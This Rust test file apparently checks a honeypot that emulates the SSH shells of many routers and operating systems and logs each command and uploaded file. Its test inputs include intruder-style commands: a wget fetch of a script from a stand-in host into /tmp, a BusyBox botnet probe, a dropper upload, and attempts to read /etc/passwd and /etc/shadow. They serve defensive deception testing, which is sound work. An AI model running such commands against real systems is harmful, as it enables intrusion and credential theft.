//! What whoever logs in by a planted account meets, seen by the real ssh(1) and scp(1): the command line or the shell
//! that the product has, and an observation of every line.

mod products;
mod server;

use std::{
    fs,
    io::Write,
    path::Path,
    process::{Command, Output, Stdio},
    sync::Arc,
    time::{Duration, Instant},
};

use chaff_events::Detail;
use chaff_services::{Account, ServiceKind, ServiceSpec};
use server::Server;
use sha2::{Digest, Sha256};

const USER: &str = "backup";
const SECRET: &str = "Winter2019!";
/// What any of the products needs of a client of today.
const OPTIONS: [&str; 9] = [
    "UserKnownHostsFile=/dev/null",
    "StrictHostKeyChecking=no",
    "PubkeyAuthentication=no",
    "NumberOfPasswordPrompts=1",
    "LogLevel=ERROR",
    "IdentityAgent=none",
    "KexAlgorithms=+diffie-hellman-group1-sha1,diffie-hellman-group14-sha1",
    "HostKeyAlgorithms=+ssh-rsa",
    "Ciphers=+aes128-cbc",
];

/// A product with a planted account, and a program that tells its password.
struct Door {
    server: Server,
    folder: tempfile::TempDir,
}

impl Door {
    fn of(product: &str) -> Self {
        Self::of_user(product, USER)
    }

    fn of_user(product: &str, user: &str) -> Self {
        let mut spec = products::product(product);
        (spec.password_delay_ms, spec.refusal_delay_ms) = ((5, 10), (1, 2));
        let accounts = [Account { user: user.into(), password: SECRET.into() }];
        let server = Server::with(ServiceSpec::new(product, ServiceKind::Ssh(Arc::new(spec))), &accounts);
        let folder = tempfile::tempdir().unwrap();
        let asked = folder.path().join("askpass");
        fs::write(&asked, format!("#!/bin/sh\necho '{SECRET}'\n")).unwrap();
        fs::set_permissions(&asked, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
        Self { server, folder }
    }

    fn program(&self, name: &str, port: &str) -> Command {
        let mut command = Command::new("timeout");
        command.args(["60", name, "-F", "/dev/null", port, &self.server.port.to_string()]);
        for option in OPTIONS {
            command.args(["-o", option]);
        }
        command.env("SSH_ASKPASS", self.folder.path().join("askpass")).env("SSH_ASKPASS_REQUIRE", "force");
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        command
    }

    /// One command, as `ssh host command` sends it.
    fn exec(&self, user: &str, line: &str) -> (String, String, Option<i32>) {
        let output = self.program("ssh", "-p").args(["-l", user, "127.0.0.1", line]).output().unwrap();
        (text(&output.stdout), text(&output.stderr), output.status.code())
    }

    /// What the terminal shows of a session in which this is typed.
    fn session(&self, user: &str, typed: &str) -> (String, Option<i32>) {
        let mut child =
            self.program("ssh", "-p").args(["-tt", "-l", user, "127.0.0.1"]).stdin(Stdio::piped()).spawn().unwrap();
        child.stdin.as_mut().unwrap().write_all(typed.as_bytes()).unwrap();
        let output: Output = child.wait_with_output().unwrap();
        (text(&output.stdout), output.status.code())
    }

    /// Every line that was observed.
    fn lines(&self) -> Vec<String> {
        let facts = self.server.facts().into_iter();
        facts
            .filter_map(
                |(_, _, detail)| if let Detail::Command { line, .. } = detail { Some(text(&line)) } else { None },
            )
            .collect()
    }

    fn files(&self) -> Vec<[u8; 32]> {
        let facts = self.server.facts().into_iter();
        facts
            .filter_map(|(_, _, detail)| if let Detail::File { sha256, .. } = detail { Some(sha256) } else { None })
            .collect()
    }
}

fn text(octets: &[u8]) -> String {
    String::from_utf8_lossy(octets).into_owned()
}

#[test]
fn a_switch_has_the_command_line_of_ios() {
    let door = Door::of("cisco-ssh-1.25");
    let typed =
        "show foo\nsh ver\n qenable\nwrong\nWinter2019!\nterminal length 0\nshow run | include hostname\nexit\n";
    let (shown, status) = door.session(USER, typed);
    assert_eq!(status, Some(0), "{shown}");
    assert!(shown.starts_with("\r\n"), "{shown:?}");
    let name = shown.trim_start().split('>').next().unwrap();
    let caret = " ".repeat(format!("{name}>show ").len());
    assert!(
        shown.contains(&format!(
            "{name}>show foo\r\n{caret}^\r\n% Invalid input detected at '^' marker.\r\n\r\n{name}>"
        )),
        "{shown}"
    );
    assert!(shown.contains("Cisco IOS Software, C2960 Software") && shown.contains(" --More-- "), "{shown}");
    assert!(
        shown.contains(&format!("{name}>enable\r\nPassword: \r\nPassword: \r\n{name}#terminal length 0\r\n")),
        "{shown}"
    );
    assert!(
        shown.ends_with(&format!("{name}#show run | include hostname\r\nhostname {name}\r\n{name}#exit\r\n")),
        "{shown}"
    );
    assert!(!shown.contains(SECRET));
    assert_eq!(
        door.lines(),
        ["show foo", "sh ver", "enable", "wrong", SECRET, "terminal length 0", "show run | include hostname", "exit"]
    );
    let (said, _, status) = door.exec(USER, "show privilege");
    assert_eq!((said.as_str(), status), ("Current privilege level is 1\n", Some(0)));
    let (shown, _) = door.session(USER, "show c?lock\nexit\n");
    assert!(shown.contains("show c?\r\ncdp  clock\r\n\r\n") && shown.contains(" UTC "), "{shown}");
}

#[test]
fn a_device_has_the_shell_of_busybox() {
    let door = Door::of_user("dropbear-2022.83", "root");
    let (shown, status) = door.session("root", "foo; uname -m\ncd /tmp && wget http://192.0.2.1/x.sh\nexit 3\n");
    assert_eq!(status, Some(3), "{shown}");
    assert!(shown.contains(" built-in shell (ash)\r\n") && shown.contains("~ # foo; uname -m\r\n"), "{shown}");
    assert!(shown.contains("-sh: foo: not found\r\narmv7l\r\n~ # "), "{shown}");
    assert!(shown.contains("can't connect to remote host (192.0.2.1): Network is unreachable\r\n/tmp # exit 3\r\n"));
    let (said, errors, status) = door.exec("root", "/bin/busybox ECCHI");
    assert_eq!((said.as_str(), errors.as_str(), status), ("", "ECCHI: applet not found\n", Some(127)));
    assert_eq!(door.lines().len(), 4, "{:?}", door.lines());
    uploads(&door, "root", "/tmp/x");
}

/// A file that is sent is known by its hash.
fn uploads(door: &Door, user: &str, target: &str) {
    let file: &Path = &door.folder.path().join("dropper");
    fs::write(file, b"#!/bin/sh\necho owned\n").unwrap();
    let to = format!("{user}@127.0.0.1:{target}");
    for how in ["-O", "-s"] {
        let output = door.program("scp", "-P").arg(how).arg(file).arg(&to).output().unwrap();
        assert!(output.status.success(), "scp {how}: {output:?}");
    }
    let hash: [u8; 32] = Sha256::digest(b"#!/bin/sh\necho owned\n").into();
    assert_eq!(door.files(), [hash, hash]);
}

/// Of a line that is longer than a terminal passes on, the rest is no line of its own, however it comes.
#[test]
fn the_rest_of_a_long_line_is_not_read() {
    let door = Door::of("openssh-8.7-rhel9");
    let typed = format!("echo {}\nid -un\n", "x".repeat(100_000));
    let mut ssh = door.program("ssh", "-p");
    let mut child = ssh.args(["-T", "-l", USER, "127.0.0.1"]).stdin(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(typed.as_bytes()).unwrap();
    let said = text(&child.wait_with_output().unwrap().stdout);
    assert_eq!(said, format!("{}\n{USER}\n", "x".repeat(4090)));
    assert_eq!(door.lines().len(), 2, "{:?}", door.lines());
}

#[test]
fn what_is_sent_behind_a_command_is_read_and_kept() {
    let door = Door::of("openssh-9.2-debian12");
    let sent = |line: &str, octets: &[u8]| {
        let mut child =
            door.program("ssh", "-p").args(["-l", USER, "127.0.0.1", line]).stdin(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(octets).unwrap();
        let output = child.wait_with_output().unwrap();
        (text(&output.stdout), text(&output.stderr), output.status.code())
    };
    let octets: Vec<u8> = (0..50_000u32).map(|place| place.to_le_bytes()[0] ^ 0x5a).collect();
    assert_eq!(sent("cat > /tmp/up; wc -c < /tmp/up", &octets), ("50000\n".into(), String::new(), Some(0)));
    assert_eq!(door.files(), [<[u8; 32]>::from(Sha256::digest(&octets))]);
    // It is there for the next one who comes, and what is longer than is kept has its length.
    assert_eq!(door.exec(USER, "wc -c < /tmp/up; cat /tmp/up | wc -c").0, "50000\n50000\n");
    let big = door.folder.path().join("big");
    fs::write(&big, vec![7; 300_000]).unwrap();
    let options = ["-q", "-O", big.to_str().unwrap()];
    let copied = door.program("scp", "-P").args(options).arg(format!("{USER}@127.0.0.1:/tmp/")).output().unwrap();
    assert!(copied.status.success(), "{copied:?}");
    assert_eq!(door.exec(USER, "cd /tmp && ls -l big | cut -d ' ' -f 5; rm up big; ls").0, "300000\n");
    // A script.
    let (said, errors, status) = sent("bash -s", b"cd /etc\npwd; nothing\nexit 3\n");
    assert_eq!((said.as_str(), status), ("/etc\n", Some(3)));
    assert!(errors.ends_with("nothing: command not found\n"), "{errors}");
    let lines = door.lines();
    assert!(lines.ends_with(&["bash -s", "cd /etc", "pwd; nothing", "exit 3"].map(String::from)), "{lines:?}");
}

#[test]
fn what_is_sent_by_halves_is_told_of() {
    let door = Door::of("openssh-9.2-debian12");
    for line in ["cat > /tmp/half", "scp -t /tmp/half"] {
        let mut child =
            door.program("ssh", "-p").args(["-l", USER, "127.0.0.1", line]).stdin(Stdio::piped()).spawn().unwrap();
        let header: &[u8] = if line.starts_with("scp") { b"C0644 9000 half\n" } else { b"" };
        let mut input = child.stdin.take().unwrap();
        input.write_all(&[header, [9; 4000].as_slice()].concat()).unwrap();
        input.flush().unwrap();
        let before = door.files().len();
        std::thread::sleep(Duration::from_secs(2));
        assert_eq!(door.files().len(), before, "it is not over");
        // The client and what starts it.
        let _ = Command::new("pkill").args(["-P", &child.id().to_string()]).status();
        child.wait().unwrap();
        let whole = <[u8; 32]>::from(Sha256::digest([9; 4000]));
        let told = (0..100).any(|_| {
            std::thread::sleep(Duration::from_millis(50));
            door.files().last() == Some(&whole)
        });
        assert!(told, "{line}");
    }
}

#[test]
fn what_takes_time_takes_it() {
    let door = Door::of("openssh-9.2-debian12");
    let begun = Instant::now();
    assert_eq!(door.exec(USER, "echo a; sleep 2; echo $((2+3)); exit 4"), ("a\n5\n".into(), String::new(), Some(4)));
    assert!(begun.elapsed() >= Duration::from_secs(2), "{:?}", begun.elapsed());
    // Who keeps the shell busy waits for it, however he interrupts it.
    let begun = Instant::now();
    let (shown, status) = door.session(USER, "while :; do :; done\n\x03echo $?\nexit 5\n");
    assert!(shown.contains("; done\r\n^C\r\n") && shown.contains("$ echo $?\r\n130\r\n"), "{shown}");
    assert_eq!((status, begun.elapsed() >= Duration::from_secs(1)), (Some(5), true));
    // Control-C ends what would go on.
    let (shown, status) = door.session(USER, "ping 127.0.0.1\nno\x03sleep 100\n\x03echo $?\nexit\n");
    assert_eq!(status, Some(0), "{shown}");
    assert!(shown.contains("^C\r\n--- 127.0.0.1 ping statistics ---\r\n1 packets transmitted, 1 received,"), "{shown}");
    assert!(shown.contains("$ sleep 100\r\n^C\r\n") && shown.contains("$ echo $?\r\n130\r\n"), "{shown}");
}

#[test]
fn red_hat_has_a_bash_of_its_own() {
    let door = Door::of("openssh-8.7-rhel9");
    let (shown, status) = door.session(USER, "cd /etc\ncat redhat-release; uname -r\nexit\n");
    assert_eq!(status, Some(0), "{shown}");
    assert!(
        shown.contains("[backup@") && shown.contains(" ~]$ cd /etc\r\n") && shown.contains(" etc]$ cat"),
        "{shown}"
    );
    assert!(
        shown.contains("Red Hat Enterprise Linux release 9.3 (Plow)\r\n5.14.0-362.24.1.el9_3.x86_64\r\n"),
        "{shown}"
    );
    assert!(!shown.contains("Debian"));
}

#[test]
fn windows_has_a_command_prompt() {
    let door = Door::of("openssh-8.1-windows");
    let (shown, status) = door.session(USER, "foo bar\nWHOAMI\nexit\n");
    assert_eq!(status, Some(0), "{shown}");
    assert!(shown.starts_with("Microsoft Windows [Version 10.0.19045.2965]\r\n"), "{shown:?}");
    let foo = "'foo' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n\r\n";
    assert!(shown.contains(&format!("\\backup>foo bar\r\n{foo}backup@")), "{shown}");
    assert!(shown.contains(">WHOAMI\r\n") && shown.contains("\\backup\r\n\r\nbackup@"), "{shown}");
}

#[test]
fn routers_have_their_command_lines() {
    let door = Door::of("mikrotik-routeros-ssh");
    let (shown, _) = door.session(USER, "foo\n/ip address\nprint\n/\n/system identity print\nquit\n");
    assert!(shown.contains("bad command name foo (line 1 column 1)\r\n"), "{shown}");
    assert!(shown.contains("] /ip address> print\r\nFlags: X - disabled,") && shown.contains("/24 "), "{shown}");
    assert!(shown.contains("] /ip address> /\r\n[backup@") && shown.contains("  name: "), "{shown}");
    let door = Door::of("cisco-asa-ssh");
    let (shown, _) = door.session(USER, "show foo\nen\nWinter2019!\nterminal pager 0\nshow run\nexit\n");
    assert!(shown.starts_with("Type help or '?' for a list of available commands.\r\n"), "{shown:?}");
    assert!(
        shown.contains("^\r\nERROR: % Invalid input detected at '^' marker.\r\n") && shown.contains(": end\r\n"),
        "{shown}"
    );
    let door = Door::of("openssh-7.4-junos18");
    let (shown, _) = door.session(USER, "show version\nfoo\nexit\n");
    assert!(shown.starts_with("--- JUNOS 18.4R2-S3 Kernel") && shown.contains("Model: ex2300-24t\r\n"), "{shown:?}");
    assert!(shown.contains("^\r\nunknown command.\r\n"), "{shown}");
}

/// Systems that are no Linux have shells of their own, with what they say after a login, and take files.
#[test]
fn other_systems_have_their_shells() {
    for (product, greeting, prompt, system, missing) in [
        ("openssh-7.5-freebsd11", "\r\nFreeBSD 11.2-RELEASE (GENERIC) ", "\r\n$ ", "FreeBSD", "foo: not found"),
        ("openssh-8.1-macos10.15", "Last login: ", " ~ % ", "Darwin", "zsh: command not found: foo"),
        ("openssh-7.5-solaris11.4", "\r\nOracle Corporation ", ":~$ ", "SunOS", "-bash: foo: command not found"),
    ] {
        let door = Door::of(product);
        let (shown, status) = door.session(USER, "uname\nfoo\nsu -\nguess\ncat /etc/passwd | grep -c root:\nexit 4\n");
        assert_eq!(status, Some(4), "{product}: {shown}");
        assert!(shown.starts_with("Last login: ") && shown.contains(greeting), "{product}: {shown}");
        assert!(shown.contains(&format!("{prompt}uname\r\n{system}\r\n")), "{product}: {shown}");
        assert!(shown.contains(&format!("\r\n{missing}\r\n")), "{product}: {shown}");
        assert!(shown.contains("su: Sorry\r\n") && !shown.contains("guess"), "{product}: {shown}");
        assert_eq!(door.lines(), ["uname", "foo", "su -", "guess", "cat /etc/passwd | grep -c root:", "exit 4"]);
        let (said, errors, status) = door.exec(USER, "whoami; cat /nope");
        assert_eq!((said.as_str(), status), ("backup\n", Some(1)), "{product}");
        assert!(errors.contains("/nope: No such file or directory\n"), "{product}: {errors}");
        uploads(&door, USER, "/tmp/x");
        let (said, errors, _) = door.sftp("pwd\nls /etc\nput dropper /etc/x\n");
        let home = door.exec(USER, "pwd").0;
        assert!(said.contains(&format!("Remote working directory: {home}")), "{product}: {said}");
        assert!(said.contains("passwd") && errors.contains("Permission denied"), "{product}: {said}{errors}");
    }
}

impl Door {
    /// A file that is copied to the product by the old protocol.
    fn scp(&self, target: &str) -> (String, Option<i32>) {
        let file = self.folder.path().join("dropper");
        fs::write(&file, DROPPER).unwrap();
        let to = format!("{USER}@127.0.0.1:{target}");
        let output = self.program("scp", "-P").arg("-O").arg(file).arg(to).output().unwrap();
        (text(&output.stderr), output.status.code())
    }

    /// What is said in a session of sftp(1).
    fn sftp(&self, typed: &str) -> (String, String, Option<i32>) {
        let mut sftp = self.program("sftp", "-P");
        sftp.current_dir(self.folder.path()).arg(format!("{USER}@127.0.0.1"));
        let mut child = sftp.stdin(Stdio::piped()).spawn().unwrap();
        // Who is refused does not wait for what is typed.
        let _ = child.stdin.take().unwrap().write_all(typed.as_bytes());
        let output = child.wait_with_output().unwrap();
        (text(&output.stdout), text(&output.stderr), output.status.code())
    }
}

const DROPPER: &[u8] = b"MZ\x90\0\xff not much of a program\n";

#[test]
fn ios_takes_no_files() {
    for product in ["cisco-ssh-1.25", "cisco-ssh-1.25-ios15"] {
        let door = Door::of(product);
        assert_eq!(door.scp("flash:x"), ("Administratively disabled.\n".into(), Some(1)), "{product}");
        let (_, said, status) = door.sftp("ls\n");
        assert!(said.contains("subsystem request failed on channel 0"), "{said}");
        assert_eq!(status, Some(255));
        assert_eq!((door.files(), door.lines()), (vec![], vec!["scp -t flash:x".to_string()]));
    }
}

#[test]
fn an_asa_reads_no_command_and_takes_no_files() {
    let door = Door::of("cisco-asa-ssh");
    let mut ssh = door.program("ssh", "-p");
    let mut child = ssh.args(["-l", USER, "127.0.0.1", "show version"]).stdin(Stdio::piped()).spawn().unwrap();
    // It waits for what is typed, as it does without a command.
    child.stdin.as_mut().unwrap().write_all(b"show curpriv\nexit\n").unwrap();
    let output = child.wait_with_output().unwrap();
    let said = text(&output.stdout);
    assert!(said.starts_with("Type help or '?' for a list of available commands.\r\n"), "{said:?}");
    assert!(!said.contains("Adaptive Security Appliance") && said.contains("P_UNPR\r\n"), "{said}");
    assert_eq!(door.lines(), ["show version", "show curpriv", "exit"]);
    let (said, status) = door.scp("disk0:/x");
    assert_eq!((said.contains("disabled"), status), (false, Some(1)), "{said}");
    assert!(door.sftp("ls\n").1.contains("subsystem request failed on channel 0"));
    assert!(door.files().is_empty());
}

/// Where a product takes files, they are known by their hash however they come, and are not to be had back.
#[test]
fn routers_and_windows_take_files() {
    let hash: [u8; 32] = Sha256::digest(DROPPER).into();
    for (product, target, home, listed) in [
        ("mikrotik-routeros-ssh", "x.npk", "/", "skins"),
        ("openssh-7.4-junos18", "/var/tmp/x", "/var/home/backup", ""),
        ("openssh-8.1-windows", r"C:\Users\backup\Downloads\x.exe", "/C:/Users/backup", "Downloads"),
    ] {
        let door = Door::of(product);
        assert_eq!(door.scp(target), (String::new(), Some(0)), "{product}");
        // sftp(1) itself puts what does not begin with a slash behind the folder that it is in.
        let put = if target.starts_with('C') { "/C:/Users/backup/Downloads/x.exe" } else { target };
        let (said, errors, status) = door.sftp(&format!("pwd\nls\nput dropper {put}\nget nothing\n"));
        assert!(said.contains(&format!("Remote working directory: {home}\n")), "{product}: {said}");
        assert!(said.contains(listed), "{product}: {said}");
        assert!(errors.contains("nothing") && errors.contains("not found"), "{product}: {errors}");
        assert_eq!((door.files(), status), (vec![hash, hash], Some(0)), "{product}: {said}{errors}");
        let nowhere = door.scp("/no/where/x");
        assert_eq!(nowhere, ("scp: /no/where/x: No such file or directory\n".into(), Some(1)), "{product}");
    }
}

#[test]
fn windows_refuses_as_cmd_does() {
    let door = Door::of("openssh-8.1-windows");
    let unknown = "'foo' is not recognized as an internal or external command,\noperable program or batch file.\n";
    assert_eq!(door.exec(USER, "foo bar"), (String::new(), unknown.into(), Some(1)));
    assert_eq!(door.exec(USER, "ver").2, Some(0));
}

/// The old protocol the other way: files of the system are shown, as far as the user may read them.
#[test]
fn files_are_shown_to_scp() {
    let door = Door::of("openssh-9.2-debian12");
    let fetch = |path: &str| {
        let from = format!("{USER}@127.0.0.1:{path}");
        let output = door.program("scp", "-P").args(["-O", &from]).arg(door.folder.path().join("got")).output();
        let output = output.unwrap();
        (text(&output.stderr), output.status.code())
    };
    assert_eq!(fetch("/etc/passwd"), (String::new(), Some(0)));
    let got = fs::read_to_string(door.folder.path().join("got")).unwrap();
    assert_eq!(got, door.exec(USER, "cat /etc/passwd").0);
    assert_eq!(fetch("/etc/shadow"), ("scp: /etc/shadow: Permission denied\n".into(), Some(1)));
    assert_eq!(fetch("/etc"), ("scp: /etc: not a regular file\n".into(), Some(1)));
    assert_eq!(fetch("/nothing"), ("scp: /nothing: No such file or directory\n".into(), Some(1)));
    // And nobody writes where he may not.
    assert_eq!(door.scp("/etc/x"), ("scp: /etc/x: Permission denied\n".into(), Some(1)));
    assert!(door.sftp("put got /etc/x\n").1.contains("Permission denied"));
    assert!(door.files().is_empty());
}

/// `ls -l` of sftp(1) shows the server's lines, which say what `ls -l` of the shell says.
#[test]
fn sftp_lists_as_the_shell_does() {
    for product in
        ["openssh-9.2-debian12", "openssh-7.5-freebsd11", "openssh-8.1-macos10.15", "openssh-7.5-solaris11.4"]
    {
        let door = Door::of(product);
        let fields = |text: &str, name: &str| -> Vec<String> {
            let line = text.lines().find(|line| line.ends_with(&format!(" {name}")));
            let line = line.unwrap_or_else(|| panic!("{product}: {name}: {text}"));
            line.split_whitespace().map(String::from).collect()
        };
        let (said, errors, status) = door.sftp("cd /etc\nls -l\nls -ln passwd\ncd /\nls -la\n");
        assert_eq!(status, Some(0), "{product}: {errors}");
        let (etc, root) = (door.exec(USER, "ls -l /etc/").0, door.exec(USER, "ls -la /").0);
        for (shown, name) in [(&etc, "passwd"), (&etc, "group"), (&etc, "ssh"), (&root, "tmp"), (&root, "..")] {
            let shown = shown.replace(" -> private/tmp", "");
            let (listed, mut shown) = (fields(&said, name), fields(&shown, name));
            // Where a client asks for names by numbers, it writes the line itself and does not know of links.
            if listed[1] == "?" {
                shown[1] = "?".into();
            }
            assert_eq!(listed, shown, "{product}: {said}");
        }
        let passwd = said.lines().find(|line| line.ends_with(" passwd")).unwrap();
        let links = if product.contains("9.2") { '?' } else { '1' };
        assert!(passwd.starts_with(&format!("-rw-r--r--    {links} root     ")), "{product}: {passwd}");
        // With -n the client writes the line, of the attributes alone.
        let owner = if links == '?' { "root     root " } else { "0        0 " };
        assert!(said.contains(&format!("-rw-r--r--    ? {owner}")), "{product}: {said}");
    }
}

/// Nobody is refused a session once he is in.
#[test]
fn every_product_has_something_inside() {
    for (name, spec) in products::products() {
        assert!(spec.shell.is_some() || spec.console.is_some(), "{name}");
    }
}
